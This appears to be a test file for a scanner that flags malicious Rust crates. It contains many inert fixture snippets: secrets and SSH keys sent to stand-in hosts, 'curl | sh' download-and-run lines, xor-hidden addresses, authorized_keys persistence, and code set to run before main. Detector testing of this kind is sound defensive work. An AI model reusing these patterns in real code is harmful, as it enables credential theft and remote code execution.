/** Inert imitations of attacks, each in many disguises, and the honest code that they resemble. */
import { describe, expect, it } from 'vitest';
import { context, crate, type Files } from '../../test/crate.ts';
import { scan } from '../scan.ts';
import { BUILD_CHECKS } from './build/index.ts';
import { CAPABILITY_CHECKS } from './capability/index.ts';
import { MACRO_CHECKS } from './macro/index.ts';

const CODE_CHECKS = [...BUILD_CHECKS, ...CAPABILITY_CHECKS, ...MACRO_CHECKS];

const URL_TEXT = 'https://lz-fixture.example.invalid/p';
const MACRO = '[package]\nname = "lz-fixture"\nversion = "0.1.0"\nedition = "2021"\n[lib]\nproc-macro = true\n';

/** Level of the verdict, and the checks that ask for more than a note. */
function serious(files: Files): string[] {
  const { verdict, findings } = scan(context(crate(files)), CODE_CHECKS);
  const checks = findings.filter((it) => it.severity === 'review' || it.severity === 'hold').map((it) => it.check);
  return [verdict.level, ...new Set(checks)];
}

function xored(text: string, key: number): string {
  return [...text].map((char) => `\\x${(char.charCodeAt(0) ^ key).toString(16).padStart(2, '0')}`).join('');
}
const base64 = (text: string): string => Buffer.from(text).toString('base64');
const SEND =
  'use std::io::Write; fn send(d: &[u8]) { std::net::TcpStream::connect("192.0.2.1:80").unwrap().write_all(d).unwrap(); }';

describe('secrets that are sent', () => {
  it.each<[string, Files]>([
    [
      'plain',
      { 'src/lib.rs': `${SEND} pub fn f() { send(std::env::var("AWS_SECRET_ACCESS_KEY").unwrap().as_bytes()); }` },
    ],
    [
      'renamed, aliased, in modules',
      {
        'src/lib.rs': 'mod a; mod b; pub fn now() { a::sync(&b::all()) }',
        'src/a.rs':
          'use std::net::TcpStream as Clock; use std::io::Write as _; pub fn sync(t: &str) { let mut c = Clock::connect(("192.0.2.1", 80)).unwrap(); c.write(t.as_bytes()).unwrap(); }',
        'src/b.rs':
          'use std::env as time; pub fn all() -> String { let mut o = String::new(); for (k, v) in time::vars() { o.push_str(&k); o += &v; } o }',
      },
    ],
    [
      'macro_rules',
      {
        'src/lib.rs':
          'macro_rules! go { ($d:expr) => {{ use std::io::Write; let mut s = std::net::TcpStream::connect("192.0.2.1:80").unwrap(); write!(s, "{}", $d).unwrap(); }} } pub fn f() { go!(std::fs::read_to_string("/home/u/.ssh/id_rsa").unwrap()); }',
      },
    ],
    [
      'closure in a thread, dropped guard',
      {
        'src/lib.rs': `${SEND} pub struct G(String); impl G { pub fn new() -> G { G(std::env::vars().map(|(a, b)| a + &b).collect()) } } impl Drop for G { fn drop(&mut self) { let d = self.0.clone(); std::thread::spawn(move || send(d.as_bytes())); } }`,
      },
    ],
    [
      'async client whose source is not at hand',
      {
        'src/lib.rs': `pub async fn f() { let k = std::env::var("LZ_PRIVATE_KEY").unwrap(); let c = reqwest::Client::new(); tokio::spawn(async move { c.post("${URL_TEXT}").json(&k).send().await.ok(); }); }`,
      },
    ],
    [
      'trait object',
      {
        'src/lib.rs':
          'use std::io::Write; trait S { fn go(&self, d: Vec<u8>); } struct T; impl S for T { fn go(&self, d: Vec<u8>) { std::net::TcpStream::connect("192.0.2.7:443").unwrap().write_all(&d).unwrap(); } } pub fn f() { let s: Box<dyn S> = Box::new(T); s.go(std::fs::read(format!("{}/.ssh/id_rsa", std::env::var("HOME").unwrap())).unwrap()); }',
      },
    ],
    [
      'static in between',
      {
        'src/lib.rs': `${SEND} static C: std::sync::OnceLock<String> = std::sync::OnceLock::new(); pub fn f() { C.set(std::env::vars().map(|(a, b)| a + &b).collect()).unwrap(); g() } fn g() { send(C.get().unwrap().as_bytes()) }`,
      },
    ],
    [
      'an argument that is filled',
      {
        'src/lib.rs': `${SEND} fn fill(o: &mut Vec<u8>) { o.extend(std::fs::read("/home/u/.cargo/credentials.toml").unwrap()); } pub fn f() { let mut v = vec![]; fill(&mut v); send(&v); }`,
      },
    ],
    [
      'base64 in between, key patterns',
      {
        'src/lib.rs': `pub fn pack(l: &str) { let r = regex::Regex::new("[0-9a-fA-F]{64}").unwrap(); for m in r.find_iter(l) { ureq::post("https://lz.workers.dev/x").send_string(&base64::encode(m.as_str())).ok(); } }`,
      },
    ],
    [
      'by a command',
      {
        'src/lib.rs':
          'pub fn f() { let k = std::fs::read_to_string(".env").unwrap(); std::process::Command::new("curl").args(["-d", &k, "https://a.example.invalid"]).spawn().unwrap(); }',
      },
    ],
    [
      'in a macro',
      {
        'Cargo.toml': MACRO,
        'src/lib.rs': `${SEND} #[proc_macro] pub fn m(i: proc_macro::TokenStream) -> proc_macro::TokenStream { send(std::env::var("CARGO_REGISTRY_TOKEN").unwrap().as_bytes()); i }`,
      },
    ],
    [
      'a table of functions',
      {
        'src/lib.rs': `${SEND} fn a() -> Vec<u8> { std::fs::read("/home/u/.ssh/id_rsa").unwrap() } fn b(d: Vec<u8>) { send(&d) } struct P { g: fn() -> Vec<u8>, s: fn(Vec<u8>) } const PS: [P; 1] = [P { g: a, s: b }]; pub fn f() { for p in &PS { (p.s)((p.g)()) } }`,
      },
    ],
    ['in a build script', { 'build.rs': `${SEND} fn main() { send(std::env::var("USER").unwrap().as_bytes()); }` }],
  ])('%s', (_, files) => {
    expect(serious(files)).toEqual(expect.arrayContaining(['hold', 'collect-and-send']));
  });

  it.each<[string, Files]>([
    [
      'a channel',
      {
        'src/lib.rs': `${SEND} pub fn f() { let (tx, rx) = std::sync::mpsc::channel::<Vec<u8>>(); std::thread::spawn(move || for d in rx { send(&d) }); tx.send(std::fs::read("/home/u/.ssh/id_ed25519").unwrap()).unwrap(); }`,
      },
    ],
    [
      'fields of one type',
      {
        'src/lib.rs': `${SEND} pub struct L(Vec<u8>); impl L { pub fn add(&mut self) { self.0.extend(std::fs::read("/home/u/.ssh/id_rsa").unwrap()) } pub fn flush(&self) { send(&self.0) } }`,
      },
    ],
  ])('asks a person where only one function leads to both: %s', (_, files) => {
    expect(serious(files)).toEqual(['review', 'collect-and-send']);
  });

  it.each<[string, Files]>([
    [
      "a service's own token",
      {
        'src/lib.rs':
          'pub fn f() { let t = std::env::var("GITHUB_TOKEN").unwrap(); ureq::get("https://api.github.com/user").set("Authorization", &t).call().ok(); }',
      },
    ],
    [
      'an address that the caller gives',
      {
        'src/lib.rs':
          'pub fn f(url: &str) { let t = std::env::var("API_TOKEN").unwrap(); ureq::get(url).set("Authorization", &t).call().ok(); }',
      },
    ],
    [
      'a signature of a key',
      {
        'src/lib.rs': `fn sign(k: &str, m: &str) -> String { format!("{}{}", k.len(), m) } pub fn f() { let k = std::env::var("PRIVATE_KEY").unwrap(); ureq::post("${URL_TEXT}").send_string(&sign(&k, "m")).ok(); }`,
      },
    ],
    [
      'a proxy',
      {
        'src/lib.rs':
          'pub fn f() { let p = std::env::var("HTTPS_PROXY").unwrap(); std::net::TcpStream::connect(p).unwrap(); }',
      },
    ],
    [
      '.env that is loaded',
      {
        'src/lib.rs':
          'pub fn f() { for l in std::fs::read_to_string(".env").unwrap().lines() { if let Some((k, v)) = l.split_once("=") { unsafe { std::env::set_var(k, v) } } } }',
      },
    ],
    [
      'this machine',
      {
        'src/lib.rs':
          'use std::io::Write; pub fn f() { let mut s = std::net::TcpStream::connect("127.0.0.1:80").unwrap(); for (k, _) in std::env::vars() { s.write_all(k.as_bytes()).unwrap(); } }',
      },
    ],
  ])('says nothing serious of %s', (_, files) => {
    expect(serious(files)).toHaveLength(1);
  });
});

it('follows data into a dependency that nobody vouches for', () => {
  const dependency = crate({
    'Cargo.toml': '[package]\nname = "lz-helper"\nversion = "1.0.0"\nedition = "2021"\n',
    'src/lib.rs': `${SEND.replace('fn send', 'pub fn send')}`,
  });
  const subject = crate({
    'Cargo.toml':
      '[package]\nname = "lz-fixture"\nversion = "0.1.0"\nedition = "2021"\n[dependencies]\nlz-helper = "1"\n',
    'src/lib.rs': 'pub fn f() { lz_helper::send(&std::fs::read("/home/u/.ssh/id_rsa").unwrap()) }',
  });
  const { verdict } = scan(context(subject, { dependencies: [dependency], watch: true }), CODE_CHECKS);
  expect(verdict).toMatchObject({ level: 'hold', because: 'collect-and-send is decisive by itself' });
});

describe('downloads that are run', () => {
  const body = `let b = ureq::get("${URL_TEXT}").call().unwrap().into_string().unwrap();`;
  it.each<[string, Files]>([
    [
      'written and run',
      {
        'build.rs': `fn main() { ${body} let p = std::env::temp_dir().join("lz-fixture-x"); std::fs::write(&p, b).unwrap(); std::process::Command::new(&p).spawn().unwrap(); }`,
      },
    ],
    [
      'copied to a file that is opened, address in base64',
      {
        'build.rs': `fn main() { let u = String::from_utf8(base64::decode(["${base64(URL_TEXT).slice(0, 9)}", "${base64(URL_TEXT).slice(9)}"].concat()).unwrap()).unwrap(); let mut r = reqwest::blocking::get(&u).unwrap(); let p = std::env::temp_dir().join("lz-fixture-x"); let mut f = std::fs::File::create(&p).unwrap(); std::io::copy(&mut r, &mut f).unwrap(); std::process::Command::new(p).spawn().unwrap(); }`,
      },
    ],
    [
      'helpers',
      {
        'src/lib.rs': `fn run(p: &str, a: &[&str]) { std::process::Command::new(p).args(a).status().unwrap(); } pub fn f() { run("curl", &["-o", "/tmp/lz-fixture-x", "${URL_TEXT}"]); run("chmod", &["+x", "/tmp/lz-fixture-x"]); run("/tmp/lz-fixture-x", &[]); }`,
      },
    ],
    [
      'loaded',
      {
        'src/lib.rs': `pub unsafe fn f() { ${body} std::fs::write("/tmp/lz-fixture.so", b).unwrap(); libloading::Library::new("/tmp/lz-fixture.so").unwrap(); }`,
      },
    ],
    [
      'one line',
      {
        'src/lib.rs': `pub fn f() { std::process::Command::new("sh").args(["-c", "curl -s ${URL_TEXT} | sh"]).spawn().unwrap(); }`,
      },
    ],
    [
      'one line, C function',
      {
        'src/lib.rs': `extern "C" { fn system(c: *const u8) -> i32; } pub fn f() { unsafe { system(b"curl ${URL_TEXT} | sh\\0".as_ptr()); } }`,
      },
    ],
    [
      'text for a shell',
      { 'src/lib.rs': `pub fn f() { ${body} std::process::Command::new("bash").arg("-c").arg(b).spawn().unwrap(); }` },
    ],
    [
      'a file in a temporary folder that names itself',
      {
        'src/lib.rs': `use std::io::Write; pub fn f() { ${body} let mut t = tempfile::NamedTempFile::new().unwrap(); t.write_all(b.as_bytes()).unwrap(); std::process::Command::new(t.path()).spawn().unwrap(); }`,
      },
    ],
  ])('%s', (_, files) => {
    expect(serious(files)).toEqual(expect.arrayContaining(['hold', 'download-and-run']));
  });

  it.each<[string, Files]>([
    [
      'a download that is kept',
      {
        'src/lib.rs': `pub fn f(p: &str) { ${body} std::fs::write(p, b).unwrap(); std::process::Command::new("git").arg("status").spawn().unwrap(); }`,
      },
    ],
    [
      'an editor for a scratch file',
      {
        'src/lib.rs':
          'pub fn f() { std::fs::write("/tmp/lz-note", "x").unwrap(); std::process::Command::new("vi").arg("/tmp/lz-note").status().unwrap(); }',
      },
    ],
  ])('says nothing serious of %s', (_, files) => {
    expect(serious(files)).toHaveLength(1);
  });
});

describe('build scripts', () => {
  it.each<[string, string[], string]>([
    [
      'probes of the toolchain',
      ['clean'],
      'use std::process::Command; fn main() { let r = std::env::var_os("RUSTC").unwrap(); Command::new(r).arg("--version").output().unwrap(); Command::new("git").args(["rev-parse", "HEAD"]).output().unwrap(); Command::new("x86_64-linux-gnu-gcc-12").arg("-v").status().unwrap(); }',
    ],
    [
      'configure',
      ['note'],
      'fn main() { std::process::Command::new("sh").arg("configure").current_dir("src").status().unwrap(); }',
    ],
    [
      'files in OUT_DIR',
      ['clean'],
      'fn main() { let o = std::path::PathBuf::from(std::env::var("OUT_DIR").unwrap()); std::fs::write(o.join("x.rs"), "").unwrap(); println!("cargo:rerun-if-changed=build.rs"); println!("cargo:rustc-link-search=native={}", o.display()); }',
    ],
    [
      'a network',
      ['review', 'build-network'],
      'fn main() { ureq::get("https://lz.example.invalid/x").call().unwrap(); }',
    ],
    [
      'an unusual program',
      ['review', 'build-spawn'],
      'fn main() { std::process::Command::new("lz-fixture-tool").status().unwrap(); }',
    ],
    [
      'the home folder',
      ['review', 'build-write'],
      'fn main() { let h = std::env::var("HOME").unwrap(); std::fs::write(format!("{h}/.lz-fixture"), "x").unwrap(); }',
    ],
    [
      'a wrapper of rustc',
      ['review', 'build-directives'],
      'fn main() { println!("cargo:rustc-env={}=/tmp/lz-fixture", "RUSTC_WRAPPER"); }',
    ],
    [
      'unverified TLS',
      ['review', 'build-network', 'tls-unverified'],
      `fn main() { reqwest::blocking::Client::builder().danger_accept_invalid_certs(true).build().unwrap().get("${URL_TEXT}").send().unwrap(); }`,
    ],
    [
      'a gate',
      ['review', 'build-gate', 'build-network'],
      `fn main() { if std::env::var("CI").is_err() { ureq::get("${URL_TEXT}").call().unwrap(); } }`,
    ],
    [
      'an address behind xor',
      ['hold', 'build-network', 'hidden-argument'],
      `fn d(s: &[u8]) -> String { let mut o = String::new(); for b in s { o.push((b ^ 0x2a) as char); } o } fn main() { ureq::get(&d(b"${xored(URL_TEXT, 0x2a)}")).call().unwrap(); }`,
    ],
    [
      'an address behind a rolling xor',
      ['hold', 'build-network', 'hidden-argument'],
      `const D: [u8; ${URL_TEXT.length}] = [${[...URL_TEXT].map((char, at) => char.charCodeAt(0) ^ [7, 9, 13][at % 3]!)}]; const K: [u8; 3] = [7, 9, 13]; fn main() { let u: String = D.iter().zip(K.iter().cycle()).map(|(a, b)| (a ^ b) as char).collect(); ureq::get(&u).call().unwrap(); }`,
    ],
    [
      'a silent process',
      ['review', 'build-silent-spawn', 'build-spawn'],
      'use std::process::*; fn main() { Command::new("lz-fixture-tool").stdout(Stdio::null()).stderr(Stdio::null()).spawn().unwrap(); }',
    ],
    [
      'publishing',
      ['hold', 'self-publish'],
      'fn main() { std::process::Command::new("cargo").args(["publish", "--allow-dirty"]).status().unwrap(); }',
    ],
  ])('%s', (_, expected, source) => {
    expect(serious({ 'build.rs': source }).toSorted()).toEqual(expected.toSorted());
  });

  it('finds the network in a build dependency', () => {
    const dependency = crate({
      'Cargo.toml': '[package]\nname = "lz-helper"\nversion = "1.0.0"\n',
      'src/lib.rs': 'pub fn prepare() { let _ = std::net::TcpStream::connect("192.0.2.1:80"); }',
    });
    const subject = crate({
      'Cargo.toml': '[package]\nname = "lz-fixture"\nversion = "0.1.0"\n[build-dependencies]\nlz-helper = "1"\n',
      'build.rs': 'fn main() { lz_helper::prepare() }',
    });
    const { findings } = scan(context(subject, { dependencies: [dependency] }), CODE_CHECKS);
    expect(findings.map((it) => it.check)).toContain('build-network');
  });

  it('hashes the script with its modules', () => {
    const hash = (text: string) => {
      const files = { 'build.rs': 'mod m; fn main() { m::f() }', 'm.rs': text };
      return scan(context(crate(files)), CODE_CHECKS).findings.find((it) => it.check === 'build-script')?.evidence[0]
        ?.sha256;
    };
    expect(hash('pub fn f() {}')).not.toBe(hash('pub fn f() { }'));
  });
});

describe('other code', () => {
  it.each<[string, string[], Files]>([
    [
      'authorized keys',
      ['hold', 'persistence'],
      {
        'src/lib.rs':
          'use std::io::Write; pub fn f() { let p = std::path::PathBuf::from(std::env::var("HOME").unwrap()).join(".ssh").join("authorized_keys"); writeln!(std::fs::OpenOptions::new().append(true).open(p).unwrap(), "INERT").unwrap(); }',
      },
    ],
    [
      'before main',
      ['review', 'before-main'],
      {
        'src/lib.rs':
          '#[used] #[link_section = ".init_array"] static I: extern "C" fn() = init; extern "C" fn init() { go() } fn go() { std::process::Command::new("lz-fixture-x").spawn().unwrap(); }',
      },
    ],
    [
      'before main, honest',
      ['note'],
      {
        'src/lib.rs':
          '#[used] #[link_section = ".init_array"] static I: extern "C" fn() = init; extern "C" fn init() { std::env::var("X").ok(); }',
      },
    ],
    [
      'emitted processes',
      ['review', 'macro-emitted-code'],
      {
        'Cargo.toml': MACRO,
        'src/lib.rs':
          '#[proc_macro] pub fn m(_: proc_macro::TokenStream) -> proc_macro::TokenStream { quote::quote! { ::std::process::Command::new("lz-fixture-x").spawn(); }.into() }',
      },
    ],
    [
      'emitted text',
      ['hold', 'macro-emitted-code'],
      {
        'Cargo.toml': MACRO,
        'src/lib.rs': `#[proc_macro] pub fn m(_: proc_macro::TokenStream) -> proc_macro::TokenStream { "fn f() { std::process::Command::new(\\"sh\\").args([\\"-c\\", \\"curl ${URL_TEXT} | sh\\"]); }".parse().unwrap() }`,
      },
    ],
    [
      'an honest derive',
      ['clean'],
      {
        'Cargo.toml': MACRO,
        'src/lib.rs':
          '#[proc_macro_derive(D)] pub fn d(_: proc_macro::TokenStream) -> proc_macro::TokenStream { quote::quote! { impl ::core::fmt::Debug for X { fn fmt(&self, f: &mut ::std::fmt::Formatter) -> ::std::fmt::Result { ::std::process::exit(1) } } }.into() }',
      },
    ],
    [
      'a command line of its own',
      ['clean'],
      {
        'src/lib.rs':
          'pub struct Command; impl Command { pub fn new(_: &str) -> Command { Command } } pub fn f() { Command::new("curl | sh"); }',
      },
    ],
  ])('%s', (_, expected, files) => {
    expect(serious(files)).toEqual(expected);
  });
});
